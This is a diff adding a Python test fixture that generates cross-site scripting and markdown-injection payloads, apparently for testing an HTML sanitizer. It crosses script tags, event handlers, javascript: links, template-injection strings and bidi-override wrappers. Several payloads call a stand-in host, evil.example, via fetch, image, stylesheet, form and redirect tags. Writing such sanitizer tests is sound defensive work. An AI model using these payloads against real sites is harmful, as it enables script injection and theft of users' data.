@@ -1,0 +1,80 @@
+"""Texts of people who mean harm: markup, scripts, clever links, characters that turn the reading direction."""
+
+import itertools
+
+# What a page must not do: `fired` on the window, a request to another host, a dialog.
+_SCRIPT = "window.fired=1;fetch('https://evil.example/x')"
+
+_ELEMENTS = (
+    "<script>{js}</script>",
+    '<img src=x onerror="{js}">',
+    "<img src=https://evil.example/p.png>",
+    '<svg onload="{js}"></svg>',
+    "<svg><script>{js}</script></svg>",
+    '<iframe src="javascript:{js}"></iframe>',
+    '<iframe srcdoc="<script>{js}</script>"></iframe>',
+    "<object data=https://evil.example/o></object>",
+    "<embed src=https://evil.example/e>",
+    "<link rel=stylesheet href=https://evil.example/c.css>",
+    "<style>@import 'https://evil.example/s.css';*{{display:none}}</style>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<form action=https://evil.example/><button>send</button></form>",
+    '<a href="javascript:{js}">a</a>',
+    '<body onload="{js}">',
+    '<input autofocus onfocus="{js}">',
+    '<details open ontoggle="{js}">',
+    '<video><source onerror="{js}"></video>',
+    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
+    '<frontdesk-widget onclick="{js}"></frontdesk-widget>',
+    "[link](javascript:{js})",
+    "[link](JaVaScRiPt&#58;{js})",
+    "[link](data:text/html,<script>{js}</script>)",
+    "![picture](https://evil.example/m.png)",
+    "![picture](javascript:{js})",
+    "<https://evil.example/auto>",
+    "[ref]: javascript:{js}\n[ref]",
+    "`</code><script>{js}</script>`",
+    "```\n</pre><script>{js}</script>\n```",
+    "| a |\n| --- |\n| <script>{js}</script> |",
+    '# <b onmouseover="{js}">head</b>',
+    "{{{{constructor.constructor('{js}')()}}}}",
+    "${{alert(1)}}{js}",
+    "'-{js}-'",
+    '"><script>{js}</script>',
+    "</title><script>{js}</script>",
+    "</textarea><script>{js}</script>",
+    "javascript:{js}",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZmlyZWQ9MTwvc2NyaXB0Pg==",
+)
+_AROUND = (
+    "{0}",
+    "Hello {0} there",
+    "\u202e{0}\u202c",
+    "\u2066{0}",
+    "שלום {0}",
+    "\ufeff{0}\u200b",
+    "&lt;{0}&gt;",
+    "{0}\n\n{0}",
+    "> {0}",
+    "- {0}",
+    "**{0}**",
+    "1. {0}\n2. {0}",
+    "<!--{0}-->",
+    "<![CDATA[{0}]]>",
+    "<noscript>{0}</noscript>",
+    "<template>{0}</template>",
+    "<svg><foreignObject>{0}",
+    "\\{0}",
+    "{0}%00",
+    "\u0001{0}",
+    "\u2028{0}\u2029",
+    "a\u0301\u0301\u0301{0}",
+    "%3C{0}",
+    "{0}" + "\u202e",
+    "\"'{0}`",
+)
+
+PAYLOADS = [
+    around.replace("{0}", element.format(js=_SCRIPT)) for around, element in itertools.product(_AROUND, _ELEMENTS)
+]
